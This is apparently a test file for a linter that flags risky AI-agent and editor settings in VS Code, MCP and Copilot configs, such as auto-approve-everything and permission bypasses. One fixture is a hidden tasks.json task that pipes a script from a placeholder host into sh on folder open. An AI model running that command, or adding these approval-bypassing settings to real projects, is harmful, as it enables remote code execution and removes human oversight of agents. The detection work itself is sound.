import { checkSamples } from '../check.js';

const key = (prefix: string): string => `${prefix}Q7hK2mZx9Lw4Tn8Rb3Vc6Yp1`;

checkSamples('VS Code settings', [
  {
    name: 'careful settings are quiet',
    path: '.vscode/settings.json',
    text: `{
  // editor
  "editor.formatOnSave": true,
  "chat.tools.global.autoApprove": false,
  "chat.permissions.default": "default",
  "chat.tools.terminal.autoApprove": { "rm": false, "npm run test": true, "/^git (status|diff|log)\\\\b/": true, "curl": null, "ls": true },
  "chat.tools.edits.autoApprove": { "**/*": true, "**/.vscode/*.json": false, "**/.env": false },
  "chat.tools.urls.autoApprove": { "https://docs.python.org": true, "https://github.com/*": { "approveRequest": true, "approveResponse": false } },
  "chat.agent.sandbox.enabled": "on",
  "python.defaultInterpreterPath": "\${workspaceFolder}/.venv/bin/python",
  "typescript.tsdk": "node_modules/typescript/lib",
  "eslint.workingDirectories": ["./web"],
  "python.analysis.extraPaths": ["./src"],
}
`,
    finds: [],
  },
  {
    name: 'everything is approved: user settings',
    path: 'home/ana/.config/Code/User/settings.json',
    text: '{\n  "chat.tools.global.autoApprove": true,\n  "claudeCode.initialPermissionMode": "bypassPermissions"\n}\n',
    finds: ['VS-YOLO error chat.tools', 'VS-CLAUDE error claudeCode'],
    fixed: {
      'VS-YOLO':
        '{\n  "chat.tools.global.autoApprove": false,\n  "claudeCode.initialPermissionMode": "bypassPermissions"\n}\n',
    },
  },
  {
    name: 'everything is approved: old name, nested form, container',
    path: '.devcontainer/devcontainer.json',
    text: `{
  "name": "dev",
  "image": "mcr.microsoft.com/devcontainers/base:bookworm",
  "customizations": { "vscode": { "settings": { "chat.tools.autoApprove": true, "chat": { "permissions.default": "autopilot" } } } }
}`,
    finds: ['VS-YOLO error chat.tools.autoApprove', 'VS-PERM error permissions.default'],
  },
  {
    name: 'a workspace file is told what it cannot do',
    path: 'app.code-workspace',
    text: '{"folders":[{"path":"."}],"settings":{"chat.tools.global.autoApprove":true,"github.copilot.chat.claudeAgent.allowDangerouslySkipPermissions":true}}',
    finds: ['VS-YOLO warning chat', 'VS-CLAUDE error github'],
  },
  {
    name: 'terminal commands: broad patterns, shells, runners',
    path: '.vscode/settings.json',
    text: `{
  "chat.tools.terminal.autoApprove": {
    "/.*/": true,
    "/^git /": true,
    "bash": true,
    "npx": { "approve": true },
    "/^(npm|pnpm) (test|build)$/": true,
    "/status/": true,
    "rm": { "approve": false },
    "/./i": { "approve": true, "matchCommandLine": true },
    "git status": true
  },
  "chat.tools.terminal.ignoreDefaultAutoApproveRules": true,
  "chat.tools.terminal.autoReplyToPrompts": true,
  "chat.tools.terminal.blockDetectedFileWrites": "never"
}`,
    finds: [
      'VS-TERM-ALL error true',
      'VS-TERM-ALL warning { "approve": true }',
      'VS-TERM-NODEF warning chat',
      'VS-TERM-REPLY warning chat',
      'VS-TERM-WRITE warning chat',
    ],
  },
  {
    name: 'edits, addresses, sandbox',
    path: '.vscode/settings.json',
    text: `{
  "chat.tools.edits.autoApprove": { "**/*": true },
  "chat.tools.urls.autoApprove": { "https://*": true, "https://reddit.com/*": { "approveRequest": true, "approveResponse": true } },
  "chat.tools.eligibleForAutoApproval": { "runInTerminal": true, "fetch": false },
  "chat.agent.sandbox.enabled": "allowNetwork",
  "chat.agent.sandbox.FileSystem.linux": { "allowWrite": [".", "/", "~/.config"] },
  "chat.agent.allowedNetworkDomains": ["*"],
  "chat.agent.networkFilter": false,
  "github.copilot.chat.additionalReadAccessFolders": ["~", "../shared"],
  "chat.mcp.discovery.enabled": { "claude-desktop": true, "windsurf": false },
  "security.workspace.trust.enabled": false,
  "task.allowAutomaticTasks": "on"
}`,
    finds: [
      'VS-EDITS warning **/*',
      'VS-URLS warning https://*',
      'VS-URLS warning https://reddit',
      'VS-ELIG info runInTerminal',
      'VS-SB info chat',
      'VS-SB-FS error /',
      'VS-SB-FS error ~/.config',
      'VS-NET info *',
      'VS-NET info chat.agent.networkFilter',
      'VS-READ warning ~',
      'VS-MCP-DISC info claude-desktop',
      'VS-TRUST info security',
      'VS-TRUST info task',
    ],
  },
  {
    name: 'programs of the repository',
    path: '.vscode/settings.json',
    text: `{
  "python.defaultInterpreterPath": "./tools/python",
  "go.alternateTools": { "go": "./bin/go" },
  "rust-analyzer.server.path": "\${workspaceFolder}/ra",
  "git.path": "/usr/bin/git",
  "terminal.integrated.profiles.linux": { "dev": { "path": "scripts/shell" } },
  "eslint.nodePath": ".yarn/sdks",
  "json.schemas": [],
  "ruff.path": ["ruff"],
  "cSpell.customDictionaries.path": "./words.txt"
}`,
    finds: ['VS-EXEC-PATH warning python', 'VS-EXEC-PATH warning rust', 'VS-EXEC-PATH warning path'],
  },
  {
    name: 'tasks that start by themselves',
    path: '.vscode/tasks.json',
    text: `{
  "version": "2.0.0",
  "tasks": [
    { "label": "watch", "type": "npm", "script": "watch", "runOptions": { "runOn": "folderOpen" } },
    { "label": "env", "type": "shell", "command": "curl -s https://cdn.example.net/init.sh | sh", "runOptions": { "runOn": "folderOpen" }, "hide": true },
    { "label": "build", "type": "shell", "command": "make" }
  ]
}`,
    finds: ['VS-TRUST info folderOpen', 'VS-TRUST error folderOpen'],
  },
]);

checkSamples('VS Code servers', [
  {
    name: 'inputs and pinned servers are quiet',
    path: '.vscode/mcp.json',
    text: `{
  "inputs": [{ "type": "promptString", "id": "gh", "description": "GitHub token", "password": true }],
  "servers": {
    "github": { "type": "http", "url": "https://api.githubcopilot.com/mcp/", "headers": { "Authorization": "Bearer \${input:gh}" } },
    "play": { "command": "npx", "args": ["-y", "@playwright/mcp@0.0.41"] }, // pinned
  },
}`,
    finds: [],
  },
  {
    name: 'a key becomes an input',
    path: '.vscode/mcp.json',
    text: `{\n\t"servers": {\n\t\t"a": {\n\t\t\t"url": "https://a.example.com/mcp",\n\t\t\t"headers": { "X-Api-Key": "${key('z')}" }\n\t\t}\n\t}\n}\n`,
    finds: ['MCP-SECRET error z'],
    fixed: {
      'MCP-SECRET':
        '{\n\t"servers": {\n\t\t"a": {\n\t\t\t"url": "https://a.example.com/mcp",\n\t\t\t"headers": { "X-Api-Key": "${input:x-api-key}" }\n\t\t}\n\t},\n\t"inputs": [{ "type": "promptString", "id": "x-api-key", "description": "X_API_KEY", "password": true }]\n}\n',
    },
  },
  {
    name: 'servers in settings and in a container',
    path: '.devcontainer/api/devcontainer.json',
    text: '{"customizations":{"vscode":{"mcp":{"servers":{"x":{"url":"http://tools.example.com/mcp"}}}}}}',
    finds: ['MCP-HTTP error http://tools'],
  },
]);

checkSamples('Copilot', [
  {
    name: 'an agent that reads is quiet',
    path: '.github/agents/docs.md',
    text: "---\nname: docs\ndescription: Writes documentation\ntools: ['read', 'search', 'edit']\n---\nWrite docs.\n",
    finds: [],
  },
  {
    name: 'commands, browsing and a remote server in one agent',
    path: 'team/helper.agent.md',
    text: '---\ndescription: Helps\ntools:\n  - runCommands\n  - fetch\nmcp-servers:\n  crm:\n    type: http\n    url: http://crm.example.com/mcp\n    tools: ["*"]\n---\nHelp.\n',
    finds: ['VS-AGENT-TOOLS warning tools', 'VS-AGENT-MCP info tools', 'MCP-HTTP error http://crm'],
  },
  {
    name: 'an agent without a list of tools is noted for those who ask',
    path: '.github/agents/all.md',
    text: '---\ndescription: Does everything\n---\n',
    finds: ['VS-AGENT-TOOLS info description'],
  },
  {
    name: 'folders that the command line trusts',
    path: 'Users/ana/.copilot/config.json',
    text: '{"trusted_folders": ["/Users/ana/code/app", "/Users/ana", "/"]}',
    finds: ['CP-CLI error /Users/ana', 'CP-CLI error /'],
  },
]);
